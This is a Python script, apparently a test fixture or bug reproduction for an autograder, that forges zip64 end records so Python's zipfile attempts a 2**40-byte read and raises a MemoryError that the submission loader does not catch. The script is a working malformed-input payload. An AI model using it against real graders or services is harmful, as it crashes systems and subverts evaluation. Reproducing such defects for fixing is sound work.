"""A zip holding a correct student/gelu.py whose zip64 end record declares a central directory of 2**40 bytes, with
the directory's offset set so that zipfile still finds the directory where it is: zipfile then asks the file for
2**40 bytes at once (`fp.read(size_cd)`), which raises MemoryError, outside the (BadZipFile, OSError, ValueError)
that submissions._from_zip catches. usage: make.py OUT.zip [SIZE_EXPONENT]"""
import io, struct, sys, zipfile

GELU = ("import math\nimport numpy as np\n\n\ndef run_gelu(x):\n"
        "    return 0.5 * x * (1 + np.tanh(math.sqrt(2 / math.pi) * (x + 0.044715 * x ** 3)))\n")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("student/gelu.py", GELU)
data = buf.getvalue()
eocd = data.rfind(b"PK\x05\x06")
(_, disk, disk_cd, n_disk, n_total, cd_size, cd_offset, clen) = struct.unpack("<4s4H2LH", data[eocd:eocd + 22])
body = data[:eocd]  # local files + central directory
size = 1 << (int(sys.argv[2]) if len(sys.argv) > 2 else 40)
loc64 = len(body)  # where the zip64 end record starts
# zipfile: concat = location(of the 32-bit end record) - size_cd - (56 + 20); start_dir = offset_cd + concat
location = loc64 + 56 + 20
concat = location - size - 76
offset = cd_offset - concat
rec64 = struct.pack("<4sQ2H2L2Q2Q", b"PK\x06\x06", 44, 45, 45, 0, 0, n_total, n_total, size, offset)
locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, loc64, 1)
end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
open(sys.argv[1], "wb").write(body + rec64 + locator + end)
